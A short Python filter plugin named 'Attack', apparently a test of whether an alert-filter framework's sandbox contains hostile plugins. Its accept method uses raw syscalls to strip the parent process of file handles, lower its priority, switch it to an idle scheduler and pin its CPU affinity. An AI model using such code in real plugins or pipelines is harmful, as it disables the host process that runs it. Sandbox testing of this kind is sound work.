"""Sets the limits of other processes, so that they can open nothing, and their priorities."""

import os
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).parent))

import tools

from zads.filters import Filter


class Attack(Filter):
    """Sets the limits of other processes, so that they can open nothing, and their priorities."""

    fields = ("candid",)
    cap = 1_000_000
    time_limit = 0.3

    def accept(self, alert):
        low = tools.buffer(bytes(16))
        others = [os.getppid()]
        return tools.attempt(
            *((f"prlimit {one}", tools.CALL["prlimit64"], one, 7, low, 0) for one in others),
            *((f"priority {one}", tools.CALL["setpriority"], 0, one, 19) for one in others),
            *((f"scheduler {one}", tools.CALL["sched_setscheduler"], one, 5, tools.buffer()) for one in others),
            *((f"affinity {one}", tools.CALL["sched_setaffinity"], one, 8, tools.buffer(b"\1")) for one in others),
            ("own", tools.CALL["setrlimit"], 7, tools.buffer(bytes(16))),
        )
